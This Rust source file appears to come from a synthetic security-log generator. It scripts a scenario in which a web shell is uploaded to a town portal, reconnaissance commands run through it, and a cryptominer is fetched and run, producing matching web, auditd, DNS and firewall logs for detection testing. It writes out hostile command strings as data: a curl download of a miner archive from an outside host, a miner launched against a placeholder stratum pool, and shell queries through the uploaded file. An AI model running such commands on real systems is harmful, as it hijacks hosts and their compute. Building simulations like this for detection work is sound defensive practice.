//! AT-12: a program is uploaded with a form of the portal, commands run through it, and a miner starts.

use std::net::{IpAddr, Ipv4Addr};

use super::{Attack, Entity, Facts, Family, Planted};
use crate::clock::{HOUR_MS, MINUTE_MS, SECOND_MS};
use crate::devices::auditd::{self, Program};
use crate::devices::fortigate::{self, Flow, Verdict};
use crate::devices::web::{self, Request};
use crate::devices::{resolver, session};
use crate::story::Stage;
use crate::words::BROWSERS;

/// The scenario.
pub(crate) struct WebShellMiner;

/// Numeric id of `www-data`.
const WEB_USER: u32 = 33;

impl Attack for WebShellMiner {
    fn facts(&self) -> Facts {
        Facts {
            number: 12,
            family: Family::Continuity,
            title_en: "Web shell, then crypto miner",
            title_it: "Web shell, poi programma che conia criptovaluta",
            office: None,
        }
    }

    fn plant(&self, stage: &mut Stage<'_>) -> Planted {
        let (town, attacker) = (stage.town, stage.outsider(0));
        let mining_ms = stage.rng.between(2 * HOUR_MS, 9 * HOUR_MS).min(stage.window_ms() / 3);
        let start_ms = stage.start_off_hours(mining_ms + 2 * HOUR_MS);
        let folder = stage.rng.pick(&["/media/istanze/", "/uploads/moduli/", "/allegati/2026/", "/media/"]);
        let number = stage.rng.size(100, 9_000);
        let ending = stage.rng.pick(&["phtml", "php5", "phar", "php"]);
        let shell = format!("{folder}{}{number}.{ending}", stage.rng.pick(&["doc", "img", "x", "mod"]));
        let at_ms = upload(stage, start_ms, attacker, &shell);
        let pool = format!("pool{}.moneta-xmr.example", stage.rng.size(1, 9));
        let at_ms = commands(stage, at_ms, attacker, &shell);
        let mined_ms = at_ms + stage.minutes(2, 14);
        mine(stage, mined_ms, mining_ms, &pool);
        let hosts = &town.hosts;
        let entity = Entity::default()
            .with("host_name", &hosts.portal_host.name)
            .with("url_domain", &hosts.portal.domain)
            .with("source_ip", attacker)
            .with("source_ip", hosts.portal_host.ip)
            .with("url_path", shell)
            .with("dns_question_name", pool);
        Planted { entity, detections: vec!["WB-09", "WB-02", "SC-34", "SC-05"] }
    }

    fn twin(&self, stage: &mut Stage<'_>) -> Entity {
        // The supplier's health page, asked every few minutes; the portal makes thumbnails by itself.
        let hosts = &stage.town.hosts;
        let address = stage.town.suppliers.last().map(|supplier| supplier.address);
        let client = address.unwrap_or_else(|| stage.outsider(0));
        let period_ms = stage.minutes(4, 6);
        let start_ms = stage.start_anytime(2 * HOUR_MS);
        let target = stage.rng.pick(&["/stato/verifica.php", "/salute.php", "/monitor/ping.php"]);
        for step in 0..stage.rng.between(12, 20) {
            let at_ms = start_ms + step * period_ms;
            let agent = "ControlloDisponibilita/2.4";
            let request =
                Request { client, method: "GET", target, status: 200, bytes: 12, referrer: "-", agent };
            web::access(&mut stage.lines, &hosts.portal, at_ms, &request);
            if step % 3 == 0 {
                let arguments = ["convert", "stemma.png", "-resize", "120x", "stemma-120.png"];
                started(stage, at_ms + 900, "/usr/bin/convert", &arguments);
            }
        }
        Entity::default().with("host_name", &hosts.portal_host.name).with("source_ip", client)
    }
}

/// Some tries with the form until an ending is let through; the end of it.
fn upload(stage: &mut Stage<'_>, start_ms: i64, client: IpAddr, shell: &str) -> i64 {
    let form = stage.rng.pick(&["/upload.php", "/servizi/istanze/allega", "/moduli/carica.php"]);
    let mut at_ms = start_ms;
    for _ in 0..stage.rng.count(2, 7) {
        request(stage, at_ms, client, "POST", form, 415);
        at_ms += stage.rng.between(5, 40) * SECOND_MS;
    }
    request(stage, at_ms, client, "POST", form, 200);
    at_ms += stage.rng.between(8, 60) * SECOND_MS;
    request(stage, at_ms, client, "GET", &format!("{shell}?c=id"), 200);
    started(stage, at_ms + 30, "/usr/bin/dash", &["sh", "-c", "id"]);
    at_ms + stage.rng.between(10, 90) * SECOND_MS
}

/// Commands through the uploaded file, the last one fetches the miner; the end of it.
fn commands(stage: &mut Stage<'_>, start_ms: i64, client: IpAddr, shell: &str) -> i64 {
    let mut at_ms = start_ms;
    let mut looking = ["uname -a", "cat /proc/cpuinfo", "ps aux", "ls -la /var/www", "crontab -l", "nproc"];
    stage.rng.shuffle(&mut looking);
    for command in looking.iter().take(stage.rng.count(4, 6)) {
        request(stage, at_ms, client, "POST", shell, 200);
        started(stage, at_ms + 25, "/usr/bin/dash", &["sh", "-c", command]);
        at_ms += stage.rng.between(12, 100) * SECOND_MS;
    }
    let from = format!("http://{}/m/{:04x}.tgz", stage.outsider(1), stage.rng.below(65_536));
    request(stage, at_ms, client, "POST", shell, 200);
    let fetch = format!("curl -fsSL {from} -o /tmp/.cache/m.tgz");
    started(stage, at_ms + 25, "/usr/bin/dash", &["sh", "-c", &fetch]);
    let arguments = ["curl", "-fsSL", &from, "-o", "/tmp/.cache/m.tgz"];
    started(stage, at_ms + 40, "/usr/bin/curl", &arguments);
    at_ms
}

/// The miner asks for its pool, connects again and again, and leaves no processor for the portal.
fn mine(stage: &mut Stage<'_>, start_ms: i64, length_ms: i64, pool: &str) {
    let town = stage.town;
    let host = &town.hosts.portal_host;
    let program = stage.rng.pick(&["/tmp/.cache/kworkerd", "/var/tmp/.x/xmrig", "/dev/shm/.m/minerd"]);
    let address = format!("stratum+tcp://{pool}:3333");
    started(stage, start_ms, program, &[program, "-o", &address, "-k", "--donate-level", "1"]);
    let IpAddr::V4(pool_ip) = stage.outsider(2) else { return };
    let count = stage.rng.count(10, 24);
    for at_ms in stage.spread(start_ms + 2 * SECOND_MS, length_ms, count) {
        let port = stage.rng.port(32_768, 60_000);
        resolver::query(&mut stage.lines, town, at_ms, host.ip, port, pool, "A");
        connection(stage, at_ms + 300, (host.ip, port), pool_ip);
    }
    let alarm_ms = start_ms + stage.minutes(3, 12);
    let text = "'system' cpu user usage of 97.4% matches resource limit [cpu user usage > 85.0%]";
    session::daemon(&mut stage.lines, host, alarm_ms, "monit", 611, text);
    let late = stage.rng.count(12, 30);
    for at_ms in stage.spread(alarm_ms, 20 * MINUTE_MS, late) {
        let client = town.citizen(&mut stage.rng);
        request(stage, at_ms, client, "GET", "/servizi", 504);
    }
}

fn connection(stage: &mut Stage<'_>, at_ms: i64, source: (Ipv4Addr, u16), pool: Ipv4Addr) {
    let flow = Flow {
        source,
        destination: (pool, 3333),
        protocol: 6,
        verdict: Verdict::Close,
        interfaces: ("DMZ", "wan1"),
        policy: 24,
        bytes: (stage.rng.size(4_000, 30_000), stage.rng.size(9_000, 60_000)),
        duration_s: stage.rng.port(300, 3_000).into(),
    };
    fortigate::traffic(&mut stage.lines, stage.town, at_ms, &flow);
}

fn started(stage: &mut Stage<'_>, at_ms: i64, file: &str, arguments: &[&str]) {
    let pid = u32::from(stage.rng.port(9_000, 60_000));
    let program = Program { uid: WEB_USER, pids: (pid, 1_204), file, arguments, key: "web-exec" };
    auditd::started(&mut stage.lines, &stage.town.hosts.portal_host, at_ms, &program);
}

fn request(stage: &mut Stage<'_>, at_ms: i64, client: IpAddr, method: &str, target: &str, status: u16) {
    let agent = BROWSERS.last().copied().unwrap_or("-");
    let bytes = stage.rng.size(80, 4_000);
    let request = Request { client, method, target, status, bytes, referrer: "-", agent };
    web::access(&mut stage.lines, &stage.town.hosts.portal, at_ms, &request);
}
